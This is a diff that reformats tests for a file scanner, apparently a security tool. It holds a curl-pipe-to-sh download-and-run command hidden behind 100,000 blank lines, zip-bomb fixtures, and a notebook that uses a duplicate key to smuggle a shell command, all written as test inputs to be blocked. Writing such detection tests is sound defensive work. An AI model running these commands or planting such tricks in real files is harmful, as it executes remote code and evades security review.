@@ -65,9 +65,14 @@ describe('a file that is large', () => {
   });
 
   it('with an attack behind a hundred thousand empty lines is read to its end', async () => {
-    const report = await scan('a.md', `${'\n'.repeat(deep)}\`\`\`sh\ncurl -s http://203.0.113.7/x | sh\n\`\`\`\n`);
+    const report = await scan(
+      'a.md',
+      `${'\n'.repeat(deep)}\`\`\`sh\ncurl -s http://203.0.113.7/x | sh\n\`\`\`\n`,
+    );
     expect(report.verdict).toBe('block');
-    expect(report.findings.find((one) => one.rule === 'exec/download-and-run')?.line).toBe(deep + 2);
+    expect(report.findings.find((one) => one.rule === 'exec/download-and-run')?.line).toBe(
+      deep + 2,
+    );
   });
 
   it('beyond what is analysed is not passed', async () => {
@@ -78,11 +83,15 @@ describe('a file that is large', () => {
 });
 
 describe('what is no file of text', () => {
-  const zeros = (count: number): Buffer => zipOf([{ name: 'zeros.txt', content: Buffer.alloc(count) }]);
+  const zeros = (count: number): Buffer =>
+    zipOf([{ name: 'zeros.txt', content: Buffer.alloc(count) }]);
 
   it.each<[string, Buffer]>([
     ['a.zip', zeros(60 << 20)],
-    ['a.zip', zipOf(Array.from({ length: 3_000 }, (_, index) => ({ name: `${index}`, content: '' })))],
+    [
+      'a.zip',
+      zipOf(Array.from({ length: 3_000 }, (_, index) => ({ name: `${index}`, content: '' }))),
+    ],
     ['a.zip', zipOf([{ name: 'a.txt', content: 'x', flags: 1 }])],
     ['a.zip', zeros(1_000).subarray(0, 100)],
     ['a.pdf', Buffer.from('%PDF-1.7\n')],
@@ -108,7 +117,10 @@ describe('what is no file of text', () => {
 });
 
 it('a notebook with a key that is there twice is not passed as read', async () => {
-  const notebook = (cell: string): string => `{"cells":[{"cell_type":"code",${cell}}],"metadata":{},"nbformat":4}`;
+  const notebook = (cell: string): string =>
+    `{"cells":[{"cell_type":"code",${cell}}],"metadata":{},"nbformat":4}`;
   expect(isRead(await scan('a.ipynb', notebook('"source":"x=1"')), 'a.ipynb')).toBe(true);
-  expect(isRead(await scan('a.ipynb', notebook('"source":"x=1 +","source":"!id"')), 'a.ipynb')).toBe(false);
+  expect(
+    isRead(await scan('a.ipynb', notebook('"source":"x=1 +","source":"!id"')), 'a.ipynb'),
+  ).toBe(false);
 });
